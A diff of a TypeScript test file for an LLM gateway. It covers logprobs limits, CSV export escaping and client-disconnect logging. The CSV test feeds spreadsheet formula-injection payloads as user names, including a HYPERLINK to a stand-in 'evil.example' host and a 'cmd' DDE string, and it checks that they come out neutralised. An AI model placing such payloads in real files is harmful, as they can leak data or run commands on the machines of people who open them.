@@ -44,13 +44,13 @@ t.test("logprobs as a number is llama-server's n_probs: held to the same bound",
     },
   };
   t.same(await post(gw, '/v1/completions', { prompt: 'x', max_tokens: 1, logprobs: 5000 }), refused);
-  t.same(
-    await post(gw, '/v1/chat/completions', { messages: [{ role: 'user', content: 'x' }], max_tokens: 1, logprobs: 100 }),
-    refused,
-  );
+  t.same(await post(gw, '/v1/chat/completions', { messages: [{ role: 'user', content: 'x' }], max_tokens: 1, logprobs: 100 }), refused);
   t.equal(gw.fake.requests.length, 0, 'llama-server saw neither');
   // OpenAI's own uses still pass: a boolean on chat, a small number on completions.
-  t.equal((await post(gw, '/v1/chat/completions', { messages: [{ role: 'user', content: 'x' }], logprobs: true, top_logprobs: 5 })).status, 200);
+  t.equal(
+    (await post(gw, '/v1/chat/completions', { messages: [{ role: 'user', content: 'x' }], logprobs: true, top_logprobs: 5 })).status,
+    200,
+  );
   t.equal((await post(gw, '/v1/completions', { prompt: 'x', logprobs: 5 })).status, 200);
 });
 
@@ -59,32 +59,28 @@ t.test('usage --csv: an end user that looks like a formula is not one in a sprea
   t.teardown(() => rmSync(dir, { recursive: true, force: true }));
   const dbPath = join(dir, 'gateway.db');
   const db = openDatabase(dbPath);
-  const evil = ['=HYPERLINK("https://evil.example/?"&A1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', 'ann'];
+  const evil = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', 'ann'];
   new UsageStore(db).insert(evil.map((endUser, i) => ({ ...usageRecord(i), endUser })));
   db.close();
   let out = '';
   const write = process.stdout.write.bind(process.stdout);
-  process.stdout.write = ((chunk: string | Uint8Array) => {
+  process.stdout.write = (chunk: string | Uint8Array) => {
     out += chunk.toString();
     return true;
-  }) as typeof process.stdout.write;
+  };
+  // The command writes synchronously; stdout is tap's own again before anything is awaited.
+  let code: Promise<number>;
   try {
-    t.equal(await usageCommand(['--db', dbPath, '--by', 'user', '--csv']), 0);
+    code = usageCommand(['--db', dbPath, '--by', 'user', '--csv']);
   } finally {
     process.stdout.write = write;
   }
+  t.equal(await code, 0);
   const cells = out
-    .trim()
     .split('\n')
-    .slice(1)
+    .filter((line) => line.startsWith('env-1,'))
     .map((line) => line.slice(line.indexOf(',') + 1).split(',')[0]);
-  t.same(cells.sort(), [
-    '"\'=HYPERLINK(""https://evil.example/?""&A1)"',
-    "'+1+cmd|' /C calc'!A0",
-    "'-2+3",
-    "'@SUM(A1)",
-    'ann',
-  ]);
+  t.same(cells.sort(), ['"\'=HYPERLINK(""https://evil.example/?""&A1)"', "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", 'ann']);
 });
 
 t.test('a client that leaves while its media is fetched: no 500 and no error log line', async (t) => {
@@ -97,10 +93,20 @@ t.test('a client that leaves while its media is fetched: no 500 and no error log
   await until('the gateway fetches', () => server.seen.some((s) => s.path === '/slow.png'));
   req.destroy();
   const done = await until('the request ends', () =>
-    gw.logs.find((l) => l.msg === 'request completed' || (typeof l.level === 'number' && l.level >= 50)),
+    gw.logs.find(
+      (l) => l.msg === 'client left while its media was fetched; never sent upstream' || (typeof l.level === 'number' && l.level >= 50),
+    ),
   );
-  t.equal(gw.logs.filter((l) => typeof l.level === 'number' && l.level >= 50).length, 0, 'no error log line');
-  t.not((done.res as { statusCode?: number } | undefined)?.statusCode, 500);
+  t.equal(done.level, 30, 'an info line says the client left');
+  t.same(
+    gw.logs.filter((l) => typeof l.level === 'number' && l.level >= 50),
+    [],
+    'no error log line',
+  );
+  t.notOk(
+    gw.logs.some((l) => (l.res as { statusCode?: number } | undefined)?.statusCode === 500),
+    'no 500',
+  );
   t.equal(gw.fake.requests.length, 0, 'nothing forwarded');
 });
 
